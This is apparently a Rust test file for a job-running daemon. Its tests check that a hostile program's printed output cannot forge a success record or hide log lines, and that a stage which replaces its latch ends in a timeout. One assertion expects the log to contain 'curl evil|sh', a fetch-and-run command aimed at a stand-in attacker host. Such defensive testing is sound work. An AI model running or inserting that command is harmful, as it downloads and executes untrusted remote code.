//! The output of a hostile program, and its files in its container, decide nothing about its end.

use trainyard_tests::daemon::stage;
use trainyard_tests::scene::Scene;

#[test]
fn class_15_a_printed_record_makes_no_success_and_hides_no_line() {
    let scene = Scene::of("forged_record");
    let run = scene.run("dag", &[]);
    assert_eq!(run["state"], "failed", "{run}");
    let log = scene.log(&run);
    assert!(log.contains("curl evil|sh"), "{log}");
    assert!(
        !log.contains("nonce="),
        "the true record is not shown: {log}"
    );
}

#[test]
fn class_15_a_program_that_replaces_its_latch_ends_with_its_timeout() {
    let scene = Scene::of("replaced_latch");
    let run = scene.run("dag", &[]);
    let stuck = stage(&run, "stuck");
    assert_eq!(stuck["state"], "timed_out", "{run}");
    assert_eq!(stuck["attempts"].as_array().unwrap().len(), 1, "{run}");
}
